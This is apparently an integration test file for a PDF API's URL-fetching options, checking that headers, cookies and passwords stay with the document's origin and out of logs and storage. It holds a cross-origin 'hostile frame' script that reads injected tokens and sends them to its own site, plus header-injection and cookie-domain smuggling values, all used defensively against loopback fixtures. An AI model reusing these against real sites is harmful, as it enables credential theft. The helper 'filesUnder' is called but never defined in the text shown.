/**
 * How a `url` document is fetched (shared/spec/beyond.md, "Fetching a url"): `http_headers`,
 * `basic_auth`, `cookies`, `user_agent` and `fail_on_http_status`, on POST /v1/pdf/generate and as
 * batch items, through the local stack and real Chromium.
 *
 * Two allow-listed loopback sites play the web: the document's own origin (publicSite) and another
 * origin (otherSite, another port of the same host). Each records every request with its headers,
 * so a test sees what a site was really sent; the /echo page also prints what it received, as a
 * customer would check it in the PDF. Secrets are fresh random strings, so any trace of one
 * anywhere is a leak.
 */
import { randomUUID } from 'node:crypto';
import { readdir, readFile, rm, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, ScanCommand } from '@aws-sdk/lib-dynamodb';
import chromium from '@sparticuz/chromium';
import puppeteer, { type Protocol } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
import { CHROMIUM_FLAGS } from '#lib/render/browser.ts';
import type { StackInfo } from '#lib/local/stack-info.ts';
import { startStackProcess, stopStackProcess, type StackProcess } from '../../bench/lib/stack-process.ts';
import { createKey, download, expectApiError, generate, generateAndDownload, post, request, runKeyTool, quotaUsed, type TestKey } from '../support/api.ts';
import { BASIC_AUTH_PASSWORD, BASIC_AUTH_USER, HEADER_LOG_PATH, type ReceivedRequest } from '../support/fixture-server.ts';
import { readPdf } from '../support/pdf.ts';

const publicSite = inject('publicSite');
const otherSite = inject('otherSite');
const dataDir = inject('dataDir');

/** Every request a fixture site received whose path and query contain `probe`, with its headers. */
async function receivedBy(site: string, probe: string): Promise<ReceivedRequest[]> {
  const response = await fetch(site + HEADER_LOG_PATH);
  return ((await response.json()) as ReceivedRequest[]).filter((received) => received.path.includes(probe));
}

/** A URL of the echo page, loading an image for each of `images` (absolute, or paths on the page's site). */
function echoUrl(site: string, probe: string, images: string[] = []): string {
  const query = new URLSearchParams({ probe });
  for (const image of images) query.append('img', image);
  return `${site}/echo?${query}`;
}

const basic = (user: string, password: string) => `Basic ${Buffer.from(`${user}:${password}`, 'utf8').toString('base64')}`;

const batch = (key: TestKey, body: unknown) => post('/v1/pdf/batch', body, key.apiKey);

/**
 * The PDF's text without white space, as the assertions read it (with `squeeze` on what they look
 * for): pdf.js splits text into runs where the font's ligatures or line breaks fall, so `ff` in a
 * random token can come out as a run of its own.
 */
async function pdfText(bytes: Uint8Array): Promise<string> {
  return squeeze((await readPdf(bytes)).text);
}

const squeeze = (text: string) => text.replace(/\s+/g, '');

describe('url options in the logs', () => {
  let logDir: string;
  let stack: StackProcess;
  let apiKey: string;

  beforeAll(async () => {
    // Prepare: a stack of its own that logs everything (DEBUG), allowed to reach the fixture sites
    logDir = await mkdtemp(join(tmpdir(), 'pdf-api-url-logs-'));
    vi.stubEnv('POWERTOOLS_LOG_LEVEL', 'DEBUG');
    vi.stubEnv('PDF_ALLOW_PRIVATE_HOSTS', `${new URL(publicSite).host},${new URL(otherSite).host}`);
    try {
      stack = await startStackProcess(logDir);
    } finally {
      vi.unstubAllEnvs();
    }
    const created = await runKeyTool(['create', '--tier', 'pro', '--json'], { DATA_DIR: logDir });
    expect(created.code).toBe(0);
    apiKey = (JSON.parse(created.stdout) as { api_key: string }).api_key;
  });

  afterAll(async () => {
    if (stack) await stopStackProcess(stack);
    await rm(logDir, { recursive: true, force: true });
  });

  it('no log line holds a header value, a cookie value or a password, whether the document succeeds or fails', async () => {
    // Prepare
    const secrets = { token: `token-${randomUUID()}`, cookie: `c-${randomUUID()}`, password: `pw-${randomUUID()}` };
    const options = {
      http_headers: { 'X-Api-Token': secrets.token },
      cookies: [{ name: 'session', value: secrets.cookie }],
      basic_auth: { username: 'reporter', password: secrets.password },
    };
    const send = (path: string, body: unknown) =>
      request('POST', `${stack.info.apiUrl}${path}`, { apiKey, headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });

    // Act: a success, a 404, a refusal and a batch of the same, one after another (the stack has
    // the cores to itself no more than any other file)
    const responses = [
      await send('/v1/pdf/generate', { url: `${publicSite}/page`, ...options }),
      await send('/v1/pdf/generate', { url: `${publicSite}/not-found`, ...options }),
      await send('/v1/pdf/generate', { url: `${publicSite}/page`, ...options, http_headers: { Authorization: `Bearer ${secrets.token}` } }),
      await send('/v1/pdf/batch', { pdfs: [{ url: `${publicSite}/page`, options }, { url: `${publicSite}/not-found`, options }, { html: '<p>x</p>', options }] }),
    ];

    // Assess: the requests were served as expected ...
    expect(responses.map((response) => response.status)).toEqual([200, 422, 400, 200]);
    expect(responses[3]!.body.successful).toBe(1);
    // ... and whatever the stack printed holds none of the secrets (at DEBUG it prints nothing per
    // request today: this keeps it so for whatever is logged later)
    const output = stack.output.join('');
    for (const secret of [...Object.values(secrets), basic('reporter', secrets.password)]) expect(output).not.toContain(secret);
  });
});

describe('url options', () => {
  let key: TestKey;
  beforeAll(async () => {
    key = await createKey('enterprise');
  });

  describe('http_headers and basic_auth go to the document’s own origin only', () => {
    it('the page and its subresources on the origin get them; a subresource on another origin does not', async () => {
      // Prepare
      const probe = randomUUID();
      const token = `token-${randomUUID()}`;
      const password = `pw-${randomUUID()}`;
      const url = echoUrl(publicSite, probe, [`/pixel.svg?probe=${probe}-same`, `${otherSite}/pixel.svg?probe=${probe}-other`]);

      // Act
      const { bytes } = await generateAndDownload(key.apiKey, {
        url,
        http_headers: { 'X-Api-Token': token, 'X-Tenant': 'acme' },
        basic_auth: { username: 'reporter', password },
      });

      // Assess: the page shows what its server received ...
      const text = await pdfText(bytes);
      expect(text).toContain(squeeze(`x-api-token: ${token}`));
      expect(text).toContain(squeeze('x-tenant: acme'));
      expect(text).toContain(squeeze(`authorization: ${basic('reporter', password)}`));
      // ... and the site's log agrees, for the page and for its own image
      const onOrigin = await receivedBy(publicSite, probe);
      expect(onOrigin.map((received) => received.path.split('?')[0])).toEqual(['/echo', '/pixel.svg']);
      for (const received of onOrigin) {
        expect(received.headers).toMatchObject({ 'x-api-token': token, 'x-tenant': 'acme', authorization: basic('reporter', password) });
      }
      // The other origin's image was fetched, without any of them
      const elsewhere = await receivedBy(otherSite, probe);
      expect(elsewhere).toHaveLength(1);
      expect(elsewhere[0]!.headers).not.toHaveProperty('x-api-token');
      expect(elsewhere[0]!.headers).not.toHaveProperty('x-tenant');
      expect(elsewhere[0]!.headers).not.toHaveProperty('authorization');
      expect(JSON.stringify(elsewhere)).not.toContain(token);
    });

    it('basic_auth signs in to a page behind HTTP Basic authentication', async () => {
      // Act
      const { bytes } = await generateAndDownload(key.apiKey, {
        url: `${publicSite}/basic-auth`,
        basic_auth: { username: BASIC_AUTH_USER, password: BASIC_AUTH_PASSWORD },
      });

      // Assess
      expect(await pdfText(bytes)).toContain(squeeze(`Signed in as ${BASIC_AUTH_USER}`));
    });

    it('without basic_auth the same page is 422 url_fetch_failed with HTTP 401', async () => {
      // Act
      const response = await generate(key.apiKey, { url: `${publicSite}/basic-auth` });

      // Assess
      expect(expectApiError(response, 422, 'url_fetch_failed')).toMatch(/HTTP 401/);
    });

    it('a page that redirects to another origin is printed from there without them, and so is an image that redirects', async () => {
      // Prepare: the page on the origin redirects to the other origin's echo page, which loads an image
      // from the origin that itself redirects to the other origin (a request the other origin's page
      // started, so not the origin's own: it goes without them too).
      const probe = randomUUID();
      const token = `token-${randomUUID()}`;
      const password = `pw-${randomUUID()}`;
      const imageRedirect = `${publicSite}/redirect?probe=${probe}-image-hop&to=${encodeURIComponent(`${otherSite}/pixel.svg?probe=${probe}-image`)}`;
      const landing = echoUrl(otherSite, `${probe}-landing`, [imageRedirect]);
      const url = `${publicSite}/redirect?probe=${probe}-hop&to=${encodeURIComponent(landing)}`;

      // Act
      const { bytes } = await generateAndDownload(key.apiKey, { url, http_headers: { 'X-Api-Token': token }, basic_auth: { username: 'reporter', password } });

      // Assess: the other origin's page was printed, and it received neither the header nor the credentials ...
      const text = await pdfText(bytes);
      expect(text).toContain('Echo');
      expect(text).not.toContain(token);
      expect(text).not.toContain('authorization:');
      const elsewhere = await receivedBy(otherSite, probe);
      expect(elsewhere.map((received) => received.path.split('?')[0]).sort()).toEqual(['/echo', '/pixel.svg']);
      for (const received of elsewhere) {
        expect(received.headers).not.toHaveProperty('x-api-token');
        expect(received.headers).not.toHaveProperty('authorization');
      }
      expect(JSON.stringify(elsewhere)).not.toContain(token);
      // ... while the document's own redirect carried them, and the image's, asked by the other
      // origin's page, did not
      const hops = await receivedBy(publicSite, probe);
      expect(hops.map((hop) => new URL(hop.path, publicSite).searchParams.get('probe'))).toEqual([`${probe}-hop`, `${probe}-image-hop`]);
      expect(hops[0]!.headers).toMatchObject({ 'x-api-token': token, authorization: basic('reporter', password) });
      expect(hops[1]!.headers).not.toHaveProperty('x-api-token');
      expect(hops[1]!.headers).not.toHaveProperty('authorization');
    });

    it('every request of a busy page ends, and one made under a service worker still carries them', async () => {
      // Prepare: the page loads 30 images (its load event waits for every one of them, so a request
      // left paused would time the document out), installs a service worker that answers every request
      // itself, and once controlled by it fetches from its origin.
      const probe = randomUUID();
      const token = `token-${randomUUID()}`;
      const images = Array.from({ length: 30 }, (_, i) => `<img src="/pixel.svg?probe=${probe}-image-${i}">`).join('');
      const html =
        `<!doctype html><p id="out">Waiting</p>${images}<script>` +
        `navigator.serviceWorker.register('/sw.js');` +
        `navigator.serviceWorker.ready.then(() => new Promise((r) => setTimeout(r, 200)))` +
        `.then(() => fetch('/echo?probe=${probe}-fetched')).then((r) => r.text())` +
        `.then((t) => { out.textContent = t.includes('Echo') ? 'Fetched from the site' : 'Answered by the worker'; window.fetched = true; });` +
        `</script>`;

      // Act
      const { bytes } = await generateAndDownload(key.apiKey, {
        url: `${publicSite}/document?probe=${probe}&html=${encodeURIComponent(html)}`,
        http_headers: { 'X-Api-Token': token },
        wait_for_expression: 'window.fetched === true',
      });

      // Assess
      expect(await pdfText(bytes)).toContain(squeeze('Fetched from the site'));
      const onOrigin = await receivedBy(publicSite, probe);
      expect(onOrigin.filter((received) => received.path.startsWith('/pixel.svg'))).toHaveLength(30);
      expect(onOrigin.some((received) => received.path.startsWith('/echo'))).toBe(true);
      for (const received of onOrigin) expect(received.headers['x-api-token']).toBe(token);
    });
  });

  describe('they are lent to the origin’s own requests only, never to a frame of another origin (issue #29)', () => {
    /** What the hostile frame tries, each named in its probe (`<probe>-b-<name>`) as the origin receives it. */
    const HOSTILE_REQUESTS = ['omit', 'same-origin', 'include', 'blank', 'worker', 'no-cors', 'basic', 'image', 'image-no-referrer', 'script', 'sheet', 'sheet-image', 'frame', 'form'];
    /** The hostile frame's reads of the origin's answer (`<probe>-leak-<name>` at its own site). */
    const READABLE = ['omit', 'same-origin', 'blank', 'worker'];

    /**
     * A page of otherSite, framed by the document, that asks the document's origin for its /echo
     * page (which shows the headers it received and lets any origin read it) every way a page can:
     * fetch in each credentials mode, from an about:blank frame of its own and from a worker, and
     * with an image, a script, a style sheet (whose own image names the style sheet as referrer), a
     * frame, a posted form. What it can read it reports to its own site; then it tells the document.
     */
    function hostileFrame(probe: string): string {
      return `<!doctype html><body><iframe name="child"></iframe><script>
        const A = ${JSON.stringify(publicSite)}, P = ${JSON.stringify(probe)};
        const url = (what, path = '/echo?cors=1&') => A + path + 'probe=' + P + '-b-' + what;
        const report = (what, text) => fetch('/pixel.svg?probe=' + P + '-leak-' + what + '&data=' + encodeURIComponent(text.slice(0, 3000)));
        const read = (what, init, fetcher = fetch) => fetcher(url(what), init).then((r) => r.text()).then((t) => report(what, t), () => report(what, 'unreadable'));
        const loaded = (element) => new Promise((done) => { element.onload = element.onerror = done; });
        const image = (what, policy) => { const img = new Image(); if (policy) img.referrerPolicy = policy; img.src = url(what, '/pixel.svg?'); return loaded(img); };
        const blank = document.createElement('iframe');
        document.body.append(blank);
        const worker = new Worker(URL.createObjectURL(new Blob([
          'fetch(' + JSON.stringify(url('worker')) + ', { credentials: "omit" }).then((r) => r.text()).then((t) => postMessage(t), () => postMessage("unreadable"))',
        ], { type: 'text/javascript' })));
        const script = document.createElement('script');
        script.src = url('script');
        const sheet = document.createElement('link');
        sheet.rel = 'stylesheet';
        sheet.href = url('sheet', '/style.css?bg=' + encodeURIComponent(url('sheet-image', '/pixel.svg?')) + '&');
        const frame = document.createElement('iframe');
        frame.src = url('frame');
        const child = document.querySelector('iframe[name=child]');
        const form = document.createElement('form');
        form.method = 'post';
        form.action = url('form');
        form.target = 'child';
        document.body.append(script, sheet, frame, form);
        const posted = loaded(child);
        form.submit();
        Promise.all([
          read('omit', { credentials: 'omit' }),
          read('same-origin'),
          read('include', { credentials: 'include' }),
          read('blank', { credentials: 'omit' }, blank.contentWindow.fetch.bind(blank.contentWindow)),
          new Promise((done) => { worker.onmessage = (event) => done(report('worker', event.data)); }),
          fetch(url('no-cors'), { mode: 'no-cors', credentials: 'include' }),
          fetch(url('basic', '/basic-auth?'), { mode: 'no-cors', credentials: 'include' }),
          image('image'),
          image('image-no-referrer', 'no-referrer'),
          loaded(script),
          loaded(sheet).then(() => getComputedStyle(document.body).backgroundImage),
          loaded(frame),
          posted,
        ]).then(() => setTimeout(() => parent.postMessage('hostile-done', '*'), 300));
      </script>`;
    }

    /**
     * The document: a page of the origin that asks its own origin for things (an image, a frame, fetch
     * with and without credentials, the Basic-protected page) and frames the hostile page.
     */
    function documentUrl(probe: string): string {
      const html = `<!doctype html><p id="basic">basic</p>
        <img src="/pixel.svg?probe=${probe}-own-image">
        <iframe src="/echo?probe=${probe}-own-frame"></iframe>
        <iframe src="${otherSite}/document?html=${encodeURIComponent(hostileFrame(probe))}"></iframe>
        <script>
          addEventListener('message', (event) => { if (event.data === 'hostile-done') window.hostileDone = true; });
          Promise.all([
            fetch('/echo?probe=${probe}-own-fetch'),
            fetch('/echo?probe=${probe}-own-omit', { credentials: 'omit' }),
            fetch('/basic-auth?probe=${probe}-own-basic').then((r) => r.text()).then((t) => { document.getElementById('basic').innerHTML = t; }),
          ]).then(() => { window.ownDone = true; });
        </script>`;
      return `${publicSite}/document?probe=${probe}-own-document&html=${encodeURIComponent(html)}`;
    }

    const READY = 'window.hostileDone === true && window.ownDone === true';

    /** What the hostile frame reported to its own site, by what it read. */
    async function reports(probe: string): Promise<Record<string, string>> {
      const received = await receivedBy(otherSite, `${probe}-leak-`);
      return Object.fromEntries(
        received.map((report) => {
          const query = new URL(report.path, otherSite).searchParams;
          return [(query.get('probe') ?? '').slice(`${probe}-leak-`.length), query.get('data') ?? ''];
        }),
      );
    }

    /** What the origin received from the hostile frame, by the name in its probe. */
    async function askedByHostileFrame(probe: string): Promise<Map<string, ReceivedRequest>> {
      const received = await receivedBy(publicSite, `${probe}-b-`);
      return new Map(received.map((request) => [(new URL(request.path, publicSite).searchParams.get('probe') ?? '').slice(`${probe}-b-`.length), request]));
    }

    it('positive control: in plain Chromium, with the headers added to every request to the origin, the hostile frame reads them and sends them home', async () => {
      // Prepare: the service's Chromium and flags, no service: the header is added by DevTools to every
      // request to the origin, whoever starts it (what the service did before issue #29)
      const probe = randomUUID();
      const token = `token-${randomUUID()}`;
      chromium.setGraphicsMode = false;
      const browser = await puppeteer.launch({ executablePath: process.env.CHROME_PATH || (await chromium.executablePath()), headless: 'shell', pipe: true, args: [...CHROMIUM_FLAGS] });
      try {
        const page = await browser.newPage();
        const session = await page.createCDPSession();
        session.on('Fetch.requestPaused', (event: Protocol.Fetch.RequestPausedEvent) => {
          const headers = [...Object.entries(event.request.headers).map(([name, value]) => ({ name, value })), { name: 'X-Api-Token', value: token }];
          void session.send('Fetch.continueRequest', { requestId: event.requestId, headers }).catch(() => undefined);
        });
        await session.send('Fetch.enable', { patterns: [{ urlPattern: `${publicSite}/*`, requestStage: 'Request' }] });

        // Act
        await page.goto(documentUrl(probe));
        await page.waitForFunction(READY, { timeout: 20_000 });

        // Assess: every read the hostile frame made of the origin's answer carried the token home ...
        const read = await reports(probe);
        for (const what of READABLE) expect(read[what], what).toContain(token);
        expect(read.include).toBe('unreadable');
        // ... and every one of its vectors reached the origin
        expect([...(await askedByHostileFrame(probe)).keys()].sort()).toEqual([...HOSTILE_REQUESTS].sort());
      } finally {
        await browser.close();
      }
    });

    it('through the service, the hostile frame reads the origin’s answers without them, and no request it starts carries them', async () => {
      // Prepare
      const probe = randomUUID();
      const token = `token-${randomUUID()}`;
      const authorization = basic(BASIC_AUTH_USER, BASIC_AUTH_PASSWORD);

      // Act
      const { bytes } = await generateAndDownload(key.apiKey, {
        url: documentUrl(probe),
        http_headers: { 'X-Api-Token': token },
        basic_auth: { username: BASIC_AUTH_USER, password: BASIC_AUTH_PASSWORD },
        wait_for_expression: READY,
      });

      // Assess: the hostile frame did read the origin's answers (the same reads as in plain Chromium) ...
      const read = await reports(probe);
      for (const what of READABLE) expect(read[what], what).toContain('Echo');
      expect(read.include).toBe('unreadable');
      // ... but nothing it sent home holds the token or the credentials
      const home = JSON.stringify(await receivedBy(otherSite, probe));
      expect(home).not.toContain(token);
      expect(home).not.toContain(authorization);
      expect(home).not.toContain(encodeURIComponent(authorization));
      // Every request it started reached the origin, each without them (no Basic challenge answered either)
      const asked = await askedByHostileFrame(probe);
      expect([...asked.keys()].sort()).toEqual([...HOSTILE_REQUESTS].sort());
      for (const [what, request] of asked) {
        expect(request.headers, what).not.toHaveProperty('x-api-token');
        expect(request.headers, what).not.toHaveProperty('authorization');
      }
      // The origin's own requests all carried them: the page, its image, its frame, its fetches with
      // and without credentials, and the Basic-protected page, which let it in
      const own = await receivedBy(publicSite, `${probe}-own-`);
      expect(own.map((request) => new URL(request.path, publicSite).searchParams.get('probe')).sort()).toEqual(
        ['basic', 'document', 'fetch', 'frame', 'image', 'omit'].map((what) => `${probe}-own-${what}`),
      );
      for (const request of own) expect(request.headers).toMatchObject({ 'x-api-token': token, authorization });
      expect(await pdfText(bytes)).toContain(squeeze(`Signed in as ${BASIC_AUTH_USER}`));
    });

    it('a form another origin’s frame posts to the top is followed, without them', async () => {
      // Prepare: the hostile frame posts a form to the origin's echo page in place of the whole page
      const probe = randomUUID();
      const token = `token-${randomUUID()}`;
      const hostile = `<form id="f" method="post" target="_top" action="${publicSite}/echo?probe=${probe}-b-top"></form><script>document.getElementById('f').submit();</script>`;
      const html = `<p>Framing</p><iframe src="${otherSite}/document?html=${encodeURIComponent(hostile)}"></iframe>`;

      // Act
      const { bytes } = await generateAndDownload(key.apiKey, {
        url: `${publicSite}/document?probe=${probe}-own&html=${encodeURIComponent(html)}`,
        http_headers: { 'X-Api-Token': token },
      });

      // Assess: the page printed is the echo page the form brought, which received no token
      const text = await pdfText(bytes);
      expect(text).toContain('Echo');
      expect(text).not.toContain(token);
      // (the document's own URL holds the probe too, inside the frame's html)
      const [posted, ...more] = (await receivedBy(publicSite, `${probe}-b-top`)).filter((request) => request.path.startsWith('/echo'));
      expect(more).toEqual([]);
      expect(posted!.headers.origin).toBe(otherSite);
      expect(posted!.headers).not.toHaveProperty('x-api-token');
      expect((await receivedBy(publicSite, `${probe}-own`))[0]!.headers['x-api-token']).toBe(token);
    });
  });

  describe('cookies', () => {
    it('arrive at the document’s host with their paths, and an http_only one is invisible to the page’s script', async () => {
      // Prepare
      const probe = randomUUID();
      const session = `s-${randomUUID()}`;
      const url = echoUrl(publicSite, probe, [`/pixel.svg?probe=${probe}-same`, `${otherSite}/pixel.svg?probe=${probe}-other-port`]);

      // Act
      const { bytes } = await generateAndDownload(key.apiKey, {
        url,
        cookies: [
          { name: 'session', value: session, http_only: true },
          { name: 'theme', value: 'dark' },
          { name: 'echo_only', value: 'yes', path: '/echo' },
        ],
      });

      // Assess: the page's server got all three; its script sees only the two that are not http_only
      const text = await pdfText(bytes);
      expect(text).toMatch(/cookie:.*session=/);
      expect(text).toContain(`session=${session}`);
      expect(text).toContain('theme=dark');
      expect(text).toContain('echo_only=yes');
      const scriptSees = /document\.cookie:(.*)$/.exec(text)?.[1] ?? '';
      expect(scriptSees).toContain('theme=dark');
      expect(scriptSees).toContain('echo_only=yes');
      expect(scriptSees).not.toContain('session');
      // The image on the origin got the cookies whose path covers it
      const [page, image] = await receivedBy(publicSite, probe);
      expect(page!.headers.cookie).toContain(`session=${session}`);
      expect(image!.headers.cookie).toContain(`session=${session}`);
      expect(image!.headers.cookie).toContain('theme=dark');
      expect(image!.headers.cookie).not.toContain('echo_only');
      // Cookies are the host's, as in every browser: another port of the same host gets them too (docs/api.md).
      const [otherPort] = await receivedBy(otherSite, probe);
      expect(otherPort!.headers.cookie).toContain('theme=dark');
    });

    it('a secure cookie for an http url is 400 invalid_request naming it, charging nothing', async () => {
      // Prepare
      const before = await quotaUsed(key);
      const secret = `s-${randomUUID()}`;

      // Act
      const response = await generate(key.apiKey, { url: `${publicSite}/page`, cookies: [{ name: 'a', value: 'b' }, { name: 'session', value: secret, secure: true }] });

      // Assess
      expect(expectApiError(response, 400, 'invalid_request', { secrets: [secret] })).toMatch(/cookies\[1\].*secure/);
      expect(await quotaUsed(key)).toBe(before);
    });
  });

  it('user_agent is what the site sees', async () => {
    // Prepare
    const probe = randomUUID();
    const userAgent = 'AcmeReports/2.0 (+https://reports.example/bot)';

    // Act
    const { bytes } = await generateAndDownload(key.apiKey, { url: echoUrl(publicSite, probe, [`${otherSite}/pixel.svg?probe=${probe}`]), user_agent: userAgent });

    // Assess
    expect(await pdfText(bytes)).toContain(squeeze(`user-agent: ${userAgent}`));
    expect((await receivedBy(publicSite, probe))[0]!.headers['user-agent']).toBe(userAgent);
    // Not a secret: every request of the document has it
    expect((await receivedBy(otherSite, probe))[0]!.headers['user-agent']).toBe(userAgent);
  });

  describe('fail_on_http_status', () => {
    it('a page answering 404 is 422 url_fetch_failed with the status, charging nothing', async () => {
      // Prepare
      const before = await quotaUsed(key);

      // Act
      const response = await generate(key.apiKey, { url: `${publicSite}/not-found` });

      // Assess
      expect(expectApiError(response, 422, 'url_fetch_failed')).toMatch(/url answered HTTP 404/);
      expect(await quotaUsed(key)).toBe(before);
    });

    it('false prints the error page', async () => {
      // Prepare
      const before = await quotaUsed(key);

      // Act
      const { bytes } = await generateAndDownload(key.apiKey, { url: `${publicSite}/not-found`, fail_on_http_status: false });

      // Assess
      expect(await pdfText(bytes)).toContain(squeeze('Nothing here'));
      expect(await quotaUsed(key)).toBe(before + 1);
    });
  });

  describe('bad values are 400 invalid_request naming the field, and never quote a secret', () => {
    const secret = `secret-${randomUUID()}`;
    it.each([
      ['a Host header', { url: `${publicSite}/page`, http_headers: { Host: secret } }, /http_headers.*Host/],
      ['a Cookie header', { url: `${publicSite}/page`, http_headers: { Cookie: `a=${secret}` } }, /http_headers.*Cookie.*cookies/],
      ['a Referer header, which the browser would drop', { url: `${publicSite}/page`, http_headers: { Referer: `https://${secret}.example/` } }, /http_headers.*Referer/],
      ['a Proxy- header', { url: `${publicSite}/page`, http_headers: { 'Proxy-Authorization': secret } }, /http_headers.*Proxy-Authorization/],
      ['a header value with CR/LF', { url: `${publicSite}/page`, http_headers: { 'X-Api-Token': `${secret}\r\nX-Injected: 1` } }, /http_headers\.X-Api-Token/],
      ['one header twice in different case', { url: `${publicSite}/page`, http_headers: { 'X-Token': secret, 'x-token': secret } }, /http_headers.*twice/],
      ['a cookie value with a semicolon', { url: `${publicSite}/page`, cookies: [{ name: 'session', value: `${secret}; Domain=evil.example` }] }, /cookies\[\]\.value/],
      ['a cookie with a domain', { url: `${publicSite}/page`, cookies: [{ name: 'session', value: secret, domain: 'evil.example' }] }, /cookies|domain/],
      ['a user_agent of 301 characters', { url: `${publicSite}/page`, user_agent: 'a'.repeat(301) }, /user_agent/],
      ['basic_auth without a password', { url: `${publicSite}/page`, basic_auth: { username: 'reporter' } }, /basic_auth/],
      ['basic_auth beside an Authorization header', { url: `${publicSite}/page`, basic_auth: { username: 'reporter', password: secret }, http_headers: { authorization: `Bearer ${secret}` } }, /basic_auth.*authorization/],
      ['fail_on_http_status that is not a boolean', { url: `${publicSite}/page`, fail_on_http_status: 'no' }, /fail_on_http_status/],
      ['http_headers with html', { html: '<p>x</p>', http_headers: { 'X-Api-Token': secret } }, /http_headers.*url/],
      ['cookies with html', { html: '<p>x</p>', cookies: [{ name: 'session', value: secret }] }, /cookies.*url/],
      ['user_agent with html', { html: '<p>x</p>', user_agent: 'AcmeReports/2.0' }, /user_agent.*url/],
    ])('%s', async (_what, body, message) => {
      // Prepare
      const before = await quotaUsed(key);

      // Act
      const response = await generate(key.apiKey, body);

      // Assess
      expect(expectApiError(response, 400, 'invalid_request', { secrets: [secret] })).toMatch(message);
      expect(await quotaUsed(key)).toBe(before);
    });
  });

  describe('as batch items', () => {
    it('each item gets its own options, its failures are URL_FETCH_FAILED and INVALID_OPTIONS, and only successes are charged', async () => {
      // Prepare
      const batchKey = await createKey('pro');
      const probe = randomUUID();
      const token = `token-${randomUUID()}`;
      const session = `s-${randomUUID()}`;
      const password = `pw-${randomUUID()}`;
      const redirected = `${publicSite}/redirect?probe=${probe}-hop&to=${encodeURIComponent(echoUrl(otherSite, `${probe}-landing`))}`;
      const pdfs = [
        {
          url: echoUrl(publicSite, `${probe}-echo`, [`/pixel.svg?probe=${probe}-same`, `${otherSite}/pixel.svg?probe=${probe}-other`]),
          options: {
            http_headers: { 'X-Api-Token': token },
            basic_auth: { username: 'reporter', password },
            cookies: [{ name: 'session', value: session, http_only: true }],
            user_agent: 'AcmeReports/2.0',
          },
        },
        { url: `${publicSite}/basic-auth`, options: { basic_auth: { username: BASIC_AUTH_USER, password: BASIC_AUTH_PASSWORD } } },
        { url: redirected, options: { http_headers: { 'X-Api-Token': token } } },
        { url: `${publicSite}/not-found`, options: { http_headers: { 'X-Api-Token': token } } },
        { url: `${publicSite}/not-found`, options: { fail_on_http_status: false } },
        { url: `${publicSite}/page`, options: { http_headers: { Host: 'evil.example' } } },
        { html: '<p>x</p>', options: { cookies: [{ name: 'session', value: session }] } },
      ];

      // Act
      const { status, body } = await batch(batchKey, { pdfs });

      // Assess: the failures, with their codes and nothing secret
      expect(status).toBe(200);
      expect(body.results[3]).toEqual({ success: false, error: { code: 'URL_FETCH_FAILED', message: expect.stringMatching(/HTTP 404/) } });
      expect(body.results[5]).toEqual({ success: false, error: { code: 'INVALID_OPTIONS', message: expect.stringMatching(/http_headers.*Host/) } });
      expect(body.results[6]).toEqual({ success: false, error: { code: 'INVALID_OPTIONS', message: expect.stringMatching(/cookies.*url/) } });
      for (const secret of [token, session, password]) expect(JSON.stringify(body)).not.toContain(secret);
      // The successes, each the document asked for
      const texts = await Promise.all([0, 1, 2, 4].map(async (i) => {
        expect(body.results[i].success, `item ${i}: ${JSON.stringify(body.results[i].error)}`).toBe(true);
        return pdfText(await download(body.results[i].download_url));
      }));
      expect(texts[0]).toContain(squeeze(`x-api-token: ${token}`));
      expect(texts[0]).toContain(squeeze(`authorization: ${basic('reporter', password)}`));
      expect(texts[0]).toContain(`session=${session}`);
      expect(texts[0]).toContain(squeeze('user-agent: AcmeReports/2.0'));
      expect(texts[0]).toContain(squeeze('document.cookie: (none)'));
      expect(texts[1]).toContain(squeeze(`Signed in as ${BASIC_AUTH_USER}`));
      expect(texts[2]).toContain('Echo');
      expect(texts[2]).not.toContain(token);
      expect(texts[3]).toContain(squeeze('Nothing here'));
      // What the sites received: the origin everything, the other origin nothing secret
      for (const received of await receivedBy(publicSite, `${probe}-`)) expect(received.headers['x-api-token']).toBe(token);
      const elsewhere = await receivedBy(otherSite, probe);
      expect(elsewhere).toHaveLength(2);
      for (const secret of [token, password, basic('reporter', password)]) expect(JSON.stringify(elsewhere)).not.toContain(secret);
      expect(body.successful).toBe(4);
      expect(await quotaUsed(batchKey)).toBe(4);
    });
  });

  describe('secrets are never stored', () => {
    it('the record, the listing and every file the stack keeps hold no header value, cookie value or password', async () => {
      // Prepare
      const recordKey = await createKey('pro');
      const secrets = { token: `token-${randomUUID()}`, cookie: `c-${randomUUID()}`, password: `pw-${randomUUID()}` };
      const options = {
        http_headers: { 'X-Api-Token': secrets.token },
        cookies: [{ name: 'session', value: secrets.cookie }],
        basic_auth: { username: 'reporter', password: secrets.password },
      };

      // Act
      const single = await generate(recordKey.apiKey, { url: `${publicSite}/page`, ...options });
      const batched = await batch(recordKey, { pdfs: [{ url: `${publicSite}/page`, options }, { url: `${publicSite}/not-found`, options }] });

      // Assess
      expect(single.status).toBe(200);
      expect(batched.body.successful).toBe(1);
      const answers = [
        JSON.stringify(single.body),
        JSON.stringify(batched.body),
        (await request('GET', `/v1/pdf/${single.body.id}`, { apiKey: recordKey.apiKey })).text,
        (await request('GET', `/v1/pdf/${batched.body.results[0].pdf_id}`, { apiKey: recordKey.apiKey })).text,
        (await request('GET', '/v1/pdf', { apiKey: recordKey.apiKey })).text,
      ];
      const stored = [JSON.stringify(await tableItems()), ...(await filesUnder(dataDir))];
      for (const secret of [...Object.values(secrets), basic('reporter', secrets.password)]) {
        for (const text of answers) expect(text).not.toContain(secret);
        for (const text of stored) expect(text.includes(secret), 'a stored item or file holds a secret').toBe(false);
      }
    });
  });
});

/** Every item of the shared stack's table. */
async function tableItems(): Promise<unknown[]> {
  const info = JSON.parse(await readFile(join(dataDir, 'stack.json'), 'utf8')) as StackInfo;
  const credentials = { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' };
  const dynamo = DynamoDBDocumentClient.from(new DynamoDBClient({ endpoint: info.dynamodbEndpoint, region: info.region, credentials }));
  try {
    const items: unknown[] = [];
    let startKey: Record<string, unknown> | undefined;
    do {
      const page = await dynamo.send(new ScanCommand({ TableName: info.tableName, ExclusiveStartKey: startKey, ConsistentRead: true }));
      items.push(...(page.Items ?? []));
      startKey = page.LastEvaluatedKey;
    } while (startKey);
    return items;
  } finally {
    dynamo.destroy();
  }
}

